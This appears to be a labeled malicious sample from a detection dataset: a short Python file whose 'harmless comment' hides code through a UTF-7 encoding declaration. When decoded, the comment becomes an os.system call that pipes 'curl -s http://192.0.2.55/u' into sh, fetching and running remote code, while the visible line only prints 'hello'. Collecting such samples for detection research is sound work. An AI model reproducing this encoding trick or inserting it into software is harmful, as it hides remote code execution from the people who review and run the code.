# label: malicious family=unicode techniques=T1027,T1059.004,T1105 lines=3
# coding: utf-7
# harmless comment +AAo-import os+ADs-os.system(+ACI-curl -s http://192.0.2.55/u +AHw- sh+ACI-)
print("hello")
